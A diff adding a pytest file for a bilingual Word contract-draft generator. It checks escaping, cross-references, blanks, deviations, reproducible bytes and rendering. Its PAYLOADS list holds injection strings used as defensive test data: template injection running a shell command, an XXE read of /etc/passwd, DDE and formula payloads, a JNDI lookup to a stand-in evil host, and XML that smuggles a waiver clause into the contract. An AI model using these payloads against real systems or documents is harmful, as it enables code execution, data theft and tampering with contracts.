@@ -1,0 +1,403 @@
+"""The Word file: vendor text stays text, numbers and references are live, gaps are seen, the same draft is the same bytes."""
+
+from __future__ import annotations
+
+import hashlib
+import io
+import os
+import re
+import shutil
+import subprocess
+import sys
+import zipfile
+from dataclasses import replace
+from functools import cache
+from pathlib import Path
+
+import docx
+import pytest
+from lxml import etree
+
+from evaluator.adapters.docx_file import write_draft
+from evaluator.adapters.docx_styles import STYLES, THEME
+from evaluator.adapters.docx_tables import Cell, Grid, widths
+from evaluator.adapters.docx_xml import W
+from evaluator.contract.draft import Fault
+from evaluator.contract.sanitise import block, line
+from evaluator.services.drafting import make_draft
+from tests import drafts
+
+NS = {"w": W}
+ROOT = Path(__file__).parents[2]
+PAYLOADS = (
+    "{{ 7*7 }}",
+    "{% for x in range(9) %}x{% endfor %}",
+    "{# gone #}",
+    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
+    "{t:total_price} {ref:payment} {sch:2}",
+    "<w:p><w:r><w:t>new paragraph</w:t></w:r></w:p>",
+    "x</w:t></w:r></w:p><w:p><w:r><w:t>第九条 甲方放弃一切索赔",
+    "A&B Ltd",
+    "uptime < 99.9% & > 99%",
+    "&lt;b&gt;bold&lt;/b&gt;",
+    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
+    "]]><![CDATA[",
+    "bell\x07 and feed\x0c",
+    "nul\x00 back\x08 tab\x0b",
+    "non\ufffe char\uffff",
+    "lone \ud83d surrogate",
+    "\u202e000,001 CNY",
+    "ze\u200bro wi\u200ddth\ufeff",
+    "first\r\n第十二条 甲方放弃一切索赔\r\nthird",
+    "one\u2028two\u2029three\x85four",
+    '=HYPERLINK("http://evil.example","click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "http://evil.example/?a=1&b=2",
+    "DDEAUTO c:\\windows\\system32\\cmd.exe",
+    "_x0007_ %s %(x)s ${jndi:ldap://evil} {0} {vendor}",
+)
+
+
+def parts(content: bytes) -> dict[str, bytes]:
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        return {name: archive.read(name) for name in archive.namelist()}
+
+
+def document(content: bytes) -> etree._Element:
+    return etree.fromstring(parts(content)["word/document.xml"])
+
+
+def word_file(made=None, layout="both", **changes) -> bytes:
+    result = make_draft(drafts.inputs(made, layout, **changes))
+    return next(content for name, content in result.files.items() if name.endswith(".docx"))
+
+
+def texts(tree: etree._Element) -> str:
+    """All words, a line break as one."""
+    found = []
+    for node in tree.iter(f"{{{W}}}t", f"{{{W}}}br", f"{{{W}}}p"):
+        found.append("\n" if node.tag != f"{{{W}}}t" else node.text or "")
+    return "".join(found)
+
+
+def poisoned(words: str):
+    answers = {
+        "V1": drafts.cell("V1", words, "Cover", "C5"), "V3": drafts.cell("V3", words, "Cover", "C7"),
+        "FT_01": drafts.cell("FT-01", words, words, "D7"), "DV_01": drafts.deviating(words), "REQ": drafts.remarked(words),
+        "SU_01": drafts.cell("SU-01", drafts.Decimal(4), verbatim=words, remark=words),
+    }  # fmt: skip
+    return drafts.bid(words, **answers)
+
+
+def shape(tree: etree._Element) -> dict[str, int]:
+    """How many headings, numbered paragraphs, fields, tables and links a document has."""
+    styles = [node.get(f"{{{W}}}val") for node in tree.iterfind(".//w:pStyle", NS)]
+    numbered = len(tree.findall(".//w:numPr", NS))
+    codes = len(tree.findall(".//w:instrText", NS))
+    links = len(tree.findall(".//w:hyperlink", NS)) + len(tree.findall(".//w:object", NS))
+    return {"titles": styles.count("Heading1"), "numbered": numbered, "fields": codes, "links": links}
+
+
+@cache
+def harmless(layout: str) -> dict[str, int]:
+    return shape(document(word_file(poisoned("plain words"), layout)))
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+@pytest.mark.parametrize("layout", ["zh", "en", "both"])
+def test_whatever_a_vendor_writes_is_only_text(payload, layout):
+    tree = document(word_file(poisoned(payload), layout))
+
+    assert shape(tree) == harmless(layout)
+    said = texts(tree)
+    assert block(payload) in said
+    assert line(payload) in said
+    fields = {node.text.split()[0] for node in tree.iterfind(".//w:instrText", NS)}
+    assert fields == {"REF"}
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_python_docx_opens_the_file_and_reads_the_vendor_s_name(payload):
+    opened = docx.Document(io.BytesIO(word_file(poisoned(payload), "en")))
+
+    assert opened.tables[0].rows[1].cells[1].text == line(payload)
+    assert line(payload) in opened.sections[0].header.paragraphs[0].text
+
+
+def test_no_relation_leaves_the_file():
+    for name, content in parts(word_file(poisoned(PAYLOADS[22]))).items():
+        if name.endswith(".rels"):
+            assert b"TargetMode" not in content
+            assert b"http://evil" not in content
+
+
+@pytest.mark.parametrize("layout", ["zh", "en", "both"])
+def test_the_same_draft_is_the_same_bytes_in_another_process(layout):
+    here = hashlib.sha256(word_file(drafts.bid(DV_01=drafts.deviating()), layout)).hexdigest()
+    code = (
+        "import hashlib; from tests.adapters.test_docx_file import word_file; from tests import drafts; "
+        f"print(hashlib.sha256(word_file(drafts.bid(DV_01=drafts.deviating()), {layout!r})).hexdigest())"
+    )
+
+    there = subprocess.run(
+        [sys.executable, "-c", code], cwd=ROOT, env={**os.environ, "PYTHONHASHSEED": "7", "TZ": "Asia/Shanghai"},
+        capture_output=True, text=True, check=True, timeout=60,
+    )  # fmt: skip
+
+    assert there.stdout.strip() == here
+    assert hashlib.sha256(word_file(drafts.bid(DV_01=drafts.deviating()), layout)).hexdigest() == here
+
+
+def test_the_package_holds_no_clock_no_author_and_no_thumbnail():
+    content = word_file()
+    found = parts(content)
+
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        assert {entry.date_time for entry in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
+    assert list(found) == sorted(found)
+    assert not [name for name in found if "thumbnail" in name or "custom" in name or "comments" in name]
+    core = found["docProps/core.xml"].decode()
+    assert "<dc:creator></dc:creator>" in core
+    assert re.findall(r"\d{4}-\d\d-\d\dT", core) == ["2026-03-01T"]
+
+
+def test_every_part_that_is_related_exists_and_has_a_type():
+    found = parts(word_file())
+
+    targets = re.findall(r'Target="([^"]+)"', found["word/_rels/document.xml.rels"].decode())
+    types = found["[Content_Types].xml"].decode()
+    for target in targets:
+        assert f"word/{target}" in found
+        assert f"/word/{target}" in types
+    for name, content in found.items():
+        if name.endswith((".xml", ".rels")):
+            etree.fromstring(content)
+
+
+def test_chinese_fonts_and_language_are_set_where_word_looks_for_them():
+    assert 'w:eastAsia="宋体"' in STYLES
+    assert STYLES.count('w:eastAsia="黑体"') >= 3
+    assert 'w:eastAsia="zh-CN"' in STYLES
+    assert '<a:font script="Hans" typeface="黑体"/>' in THEME
+    settings = parts(word_file())["word/settings.xml"].decode()
+    assert '<w:themeFontLang w:val="en-US" w:eastAsia="zh-CN"/>' in settings
+
+
+def test_two_languages_stand_in_two_columns_with_two_lists():
+    tree = document(word_file())
+
+    lists = {
+        (node.find("w:pPr/w:numPr/w:numId", NS).get(f"{{{W}}}val"))
+        for node in tree.iterfind(".//w:p", NS)
+        if node.find("w:pPr/w:numPr", NS) is not None
+    }
+    assert lists == {"1", "2"}
+    numbering = parts(word_file())["word/numbering.xml"].decode()
+    assert 'w:lvlText w:val="第%1条"' in numbering
+    assert 'w:lvlText w:val="Article %1"' in numbering
+    rows = [row for row in tree.iterfind(".//w:tr", NS) if row.find(".//w:numPr", NS) is not None]
+    assert {len(row.findall("w:tc", NS)) for row in rows} == {2}
+
+
+@pytest.mark.parametrize("layout", ["zh", "en", "both"])
+def test_every_reference_finds_its_bookmark_and_shows_its_number(layout):
+    tree = document(word_file(layout=layout))
+
+    names = [node.get(f"{{{W}}}name") for node in tree.iterfind(".//w:bookmarkStart", NS)]
+    numbers = [node.get(f"{{{W}}}id") for node in tree.iterfind(".//w:bookmarkStart", NS)]
+    codes = [node.text.split() for node in tree.iterfind(".//w:instrText", NS)]
+    assert len(names) == len(set(names))
+    assert len(numbers) == len(set(numbers))
+    assert {code[1] for code in codes} <= set(names)
+    assert max(len(name) for name in names) <= 40
+    said = texts(tree)
+    assert ("付款见第三条，计划见附件一" in said) is (layout != "en")
+    assert ("payment see Article 3.2, plan see Schedule 1" in said) is (layout != "zh")
+
+
+def test_a_reference_to_a_chinese_paragraph_names_article_and_paragraph():
+    assert "见第二条第1款。" in texts(document(word_file(layout="zh")))
+
+
+def test_a_draft_with_a_dead_reference_is_refused():
+    books = drafts.library(clauses=drafts.CLAUSES[1:2])
+    draft = drafts.drafted(drafts.bid(), library=books)
+    assert draft.faults[0] == Fault("absent_reference", "support.times", "payment")
+
+    with pytest.raises(ValueError, match=r"absent_reference at support\.times: payment"):
+        write_draft(draft, None, "zh", {})  # type: ignore[arg-type]  # refused before the front page is read
+
+
+def highlighted(tree: etree._Element, colour: str) -> list[str]:
+    found = []
+    for node in tree.iterfind(".//w:r", NS):
+        mark = node.find("w:rPr/w:highlight", NS)
+        if mark is not None and mark.get(f"{{{W}}}val") == colour:
+            found.append("".join(text.text or "" for text in node.iterfind("w:t", NS)))
+    return found
+
+
+def test_every_blank_is_printed_highlighted_and_counted_on_the_first_page():
+    empty = replace(drafts.bid(), answers={})
+    draft = drafts.drafted(empty)
+
+    tree = document(word_file(empty, "en"))
+
+    marked = highlighted(tree, "yellow")
+    for row in draft.blanks:
+        assert f"[to be agreed: {row.label.en}]" in marked
+    assert len(draft.blanks) == 8
+    assert "Blanks: 8  ·  Deviations: 0" in texts(tree)
+
+
+def test_a_blank_says_in_chinese_what_is_missing():
+    tree = document(word_file(drafts.bid(SE_01=drafts.cell("SE-01", None)), "zh"))
+
+    assert "【待定：level之名】" in highlighted(tree, "yellow")
+    assert "待定 1 项" in texts(tree)
+
+
+def test_a_deviation_shows_our_term_and_the_vendor_s_wording_both_highlighted():
+    tree = document(word_file(drafts.bid(DV_01=drafts.deviating("Fifteen days, not a day more.")), "en"))
+
+    marked = highlighted(tree, "cyan")
+    assert "30 days" in marked
+    assert " [deviation 1]" in marked
+    assert "Fifteen days, not a day more." in marked
+    assert "Deviations!E4" in texts(tree)
+
+
+def test_a_foreign_text_waits_for_its_translation_and_is_not_repeated_beside():
+    tree = document(word_file(drafts.bid(DV_01=drafts.deviating("收到发票后十五日")), "both"))
+
+    boxes = [
+        node for node in tree.iterfind(".//w:p", NS) if node.find("w:pPr/w:pStyle[@w:val='Deviation']", NS) is not None
+    ]
+    zh, en = (texts(box) for box in boxes)
+    assert "收到发票后十五日" in zh
+    assert "[translation pending]" in en
+    assert "收到发票后十五日" not in en
+    alone = texts(document(word_file(drafts.bid(DV_01=drafts.deviating("收到发票后十五日")), "en")))
+    assert "[translation pending] 收到发票后十五日" in alone
+
+
+def test_values_stand_in_bookmarks_that_name_term_and_language():
+    tree = document(word_file())
+
+    found = {}
+    for start in tree.iterfind(".//w:bookmarkStart", NS):
+        name = start.get(f"{{{W}}}name")
+        words = []
+        for node in start.itersiblings():
+            if node.tag == f"{{{W}}}bookmarkEnd":
+                break
+            words.append(texts(node))
+        found[name] = "".join(words)
+    assert found["t_zh_payment_days_1"] == "30天"
+    assert found["t_en_payment_days_1"] == "30 days"
+
+
+def test_the_house_s_fallback_escalation_and_reason_leave_with_nothing():
+    result = make_draft(drafts.inputs(drafts.bid(DV_01=drafts.deviating())))
+
+    for content in result.files.values():
+        whole = b"".join(parts(content).values()) if content[:2] == b"PK" else content
+        for secret in ("底线", "FALLBACK", "上报", "ESCALATE", "内部理由", "REASON"):
+            assert secret.encode() not in whole
+    assert "FALLBACK" not in str(result.summary)
+
+
+def test_header_and_footer_say_what_the_paper_is():
+    opened = docx.Document(io.BytesIO(word_file(layout="both")))
+
+    header = opened.sections[0].header.paragraphs[0].text
+    footer = opened.sections[0].footer.paragraphs[0].text
+    assert header.startswith("草案 — 供法务审阅，非要约，非承诺 / DRAFT for counsel review; not an offer or acceptance")
+    assert "Ada Systems Ltd" in header
+    assert re.search(r"manifest [0-9a-f]{12}$", header)
+    assert "tiny 1.0" in footer
+    assert [section.orientation for section in opened.sections] == [0, 1]
+
+
+def test_the_first_page_tells_whether_the_award_stands_and_that_a_sample_is_one():
+    open_award = texts(document(word_file(layout="en", tender=drafts.tender(sample=True))))
+    recorded = texts(document(word_file(layout="en", award_recorded=True)))
+
+    assert "The award is not recorded yet." in open_award
+    assert "Sample tender" in open_award
+    assert "The award is not recorded yet." not in recorded
+    assert "Sample tender" not in recorded
+
+
+def test_column_widths_add_up_and_keep_short_words_whole():
+    rows = [[Cell("R-01"), Cell("必须"), Cell("a long explanation of what is meant here, in many words " * 3)]]
+
+    made = widths(Grid(heads=("No.", "Kind", "Text"), rows=rows, width=9000, lang="en"))
+
+    assert sum(made) == 9000
+    assert made[0] > 500
+    assert made[2] > made[0] + made[1]
+
+
+@pytest.fixture(scope="module")
+def printed(tmp_path_factory):
+    """The three layouts as LibreOffice prints them: text of each, by layout."""
+    folder = tmp_path_factory.mktemp("pdf")
+    made = drafts.bid(DV_01=drafts.deviating(), SE_01=drafts.cell("SE-01", None))
+    for layout in ("zh", "en", "both"):
+        (folder / f"{layout}.docx").write_bytes(word_file(made, layout))
+    office = shutil.which("soffice")
+    assert office, "LibreOffice prints the drafts for this test"
+    subprocess.run(
+        [office, f"-env:UserInstallation=file://{folder}/profile", "--headless", "--convert-to", "pdf", "--outdir", str(folder)]
+        + [str(folder / f"{layout}.docx") for layout in ("zh", "en", "both")],
+        capture_output=True, check=True, timeout=180,
+    )  # fmt: skip
+    return {
+        layout: subprocess.run(
+            ["pdftotext", "-layout", str(folder / f"{layout}.pdf"), "-"],
+            capture_output=True,
+            text=True,
+            check=True,
+            timeout=60,
+        ).stdout
+        for layout in ("zh", "en", "both")
+    }
+
+
+@pytest.mark.parametrize(
+    ("layout", "words"),
+    [
+        (
+            "zh",
+            (
+                "第一条 当事人",
+                "第四条 诉讼",
+                "见附件一",
+                "见第二条第1款。",
+                "附件三",
+                "【待定：level之名】",
+                "第 1 页，共",
+            ),
+        ),
+        (
+            "en",
+            (
+                "Article 1 Parties",
+                "Article 4 Court",
+                "Article 3.2",
+                "Schedule 3",
+                "[to be agreed: Name of level]",
+                "Page 1 of",
+            ),
+        ),
+        ("both", ("第一条 当事人", "Article 1 Parties", "第四条 诉讼", "Article 4 Court", "附件三", "Schedule 3")),
+    ],
+)
+def test_libreoffice_prints_the_draft_with_its_live_numbers(printed, layout, words):
+    # Word processors leave a little room between Chinese and Latin, which the text layer gives as a space.
+    text = "".join(printed[layout].split())
+
+    for expected in (*words, "DRAFT for counsel review; not an offer or acceptance", "Ada Systems Ltd"):
+        assert "".join(expected.split()) in text
+    assert "Error:" not in printed[layout]
